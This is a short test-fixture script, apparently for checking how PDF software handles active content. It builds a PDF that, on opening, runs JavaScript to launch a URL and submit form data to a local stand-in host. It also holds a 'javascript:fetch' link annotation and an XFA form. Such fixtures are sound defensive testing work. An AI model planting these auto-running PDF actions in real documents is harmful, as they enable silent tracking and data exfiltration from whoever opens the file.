import { writeFileSync } from 'node:fs';
import { rawPdf } from '../support/pdf/raw-pdf.ts';
const origin = 'http://127.0.0.1:9';
writeFileSync('/tmp/w/pdf-h.pdf', rawPdf({
    pages: [['The Grupo Colina of Peru.']],
    catalogue: `/OpenAction << /S /JavaScript /JS (app.launchURL\\("${origin}/script"\\); this.submitForm\\("${origin}/form"\\);) >>
      /AcroForm << /Fields [] /XFA (<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template/></xdp:xdp) >>`,
    annotations: [
      `<< /Type /Annot /Subtype /Link /Rect [60 700 300 720] /A << /S /URI /URI (javascript:fetch\\('${origin}/link'\\)) >> >>`,
      `<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /V (Ana) /Rect [60 500 300 520] /DA (/F1 12 Tf) >>`,
    ],
  }));
